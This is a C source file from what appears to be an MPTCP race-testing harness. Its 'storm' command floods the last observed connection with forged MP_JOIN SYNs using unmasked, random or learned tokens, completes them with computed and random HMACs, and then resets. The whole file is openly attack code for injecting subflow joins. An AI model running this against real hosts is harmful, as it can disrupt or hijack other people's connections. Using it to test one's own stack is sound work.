// SPDX-License-Identifier: GPL-2.0-only
/*
 * Joins without end to the connection that was seen last, for races: with no mask, with one
 * made up, and with the one that was seen last. Each SYN/ACK gets an ACK at once.
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

#define TRIES 1024
#define FIRST_PORT 20000

struct trial {
	struct attempt attempt;
	uint64_t keys[NR_SIDES];
};

static struct trial tries[TRIES];
static unsigned int nr_syns, nr_answered, nr_completed;

/* T of a join that was seen, and the token that is in it if it was of the last connection */
static struct {
	bool known;
	uint32_t nonce, mask;
} learned;

static void learn_mask(const struct connection *last)
{
	if (!recorded.seen || recorded.nonces[CLIENT] == learned.nonce)
		return;
	learned.known = true;
	learned.nonce = recorded.nonces[CLIENT];
	learned.mask = recorded.token ^ key_token(last->keys[SERVER]);
}

static void send_one_syn(const struct connection *last)
{
	unsigned int nr = nr_syns++ % TRIES;
	struct attempt *attempt = &tries[nr].attempt;

	memcpy(tries[nr].keys, last->keys, sizeof(last->keys));
	start_attempt(attempt, last, last, 0);
	attempt->from.port = htons((uint16_t)(FIRST_PORT + nr));
	switch (nr_syns % 3) {
	case 0: /* no mask */
		break;
	case 1:
		attempt->token ^= random32();
		break;
	case 2:
		if (!learned.known)
			break;
		attempt->token ^= learned.mask;
		attempt->nonces[CLIENT] = learned.nonce;
		break;
	}
	send_syn(attempt);
}

static void send_join_ack(const struct attempt *attempt,
			  const uint8_t hmac[ACK_HMAC_LEN])
{
	struct plan plan = { .flags = TH_ACK, .options_len = JOIN_ACK_LEN };

	plan.options[0] = MPTCP_KIND;
	plan.options[1] = JOIN_ACK_LEN;
	plan.options[2] = MP_JOIN << 4;
	memcpy(plan.options + 4, hmac, ACK_HMAC_LEN);
	send_attempt(attempt, &plan);
}

/* With no mask; with one made up; and the request is not to fill the queue */
static void end_try(struct trial *trial, const struct segment *synack,
		    const uint8_t *join)
{
	struct plan reset = { .flags = TH_RST };
	struct attempt *attempt = &trial->attempt;
	uint8_t hmac[SHA256_DIGEST_LENGTH];

	nr_answered++;
	attempt->seq++;
	attempt->peer_seq = synack->seq + 1;
	attempt->nonces[SERVER] = get32(join + 12);
	join_hmac(trial->keys[CLIENT], trial->keys[SERVER],
		  attempt->nonces[CLIENT], attempt->nonces[SERVER], hmac);
	send_join_ack(attempt, hmac);
	put32(hmac, random32());
	send_join_ack(attempt, hmac);
	send_attempt(attempt, &reset);
}

static void take(struct frame *frame)
{
	struct segment segment;
	const uint8_t *join;
	unsigned int nr;

	if (!parse_segment(frame, &segment))
		return;
	nr = ntohs(segment.to.port) - FIRST_PORT;
	if (nr >= TRIES || segment.tcp->rst)
		return;
	join = find_mptcp(&segment, MP_JOIN);
	/* The fourth packet; what answers a SYN on an old request acknowledges another one */
	if (!segment.tcp->syn)
		nr_completed += tries[nr].attempt.peer_seq &&
				segment.ack == tries[nr].attempt.seq;
	else if (join && join[1] == JOIN_SYNACK_LEN &&
		 segment.ack == tries[nr].attempt.seq + 1)
		end_try(&tries[nr], &segment, join);
}

/* Until count=N connections were seen, and as long as they go on, or for ms=N */
bool cmd_storm(void)
{
	unsigned int count = arg_number("count", "1"), nr = 0;
	int64_t end = now_ms() + arg_number("ms", "60000");
	const struct connection *last = NULL;
	int before = count_connections();
	struct frame frame;

	nr_syns = nr_answered = nr_completed = 0;
	learned.known = false;
	while (now_ms() < end) {
		while (pump(now_ms() + !last, false, &frame))
			take(&frame);
		/* More than one may have come meanwhile */
		if (nr < count) {
			nr = (unsigned int)(count_connections() - before);
			end = nr < count ? end : now_ms() + patience_ms;
		}
		last = last_connection();
		if (!last)
			continue;
		learn_mask(last);
		send_one_syn(last);
	}
	printf(" connections=%u syns=%u answered=%u completed=%u", nr, nr_syns,
	       nr_answered, nr_completed);
	return true;
}
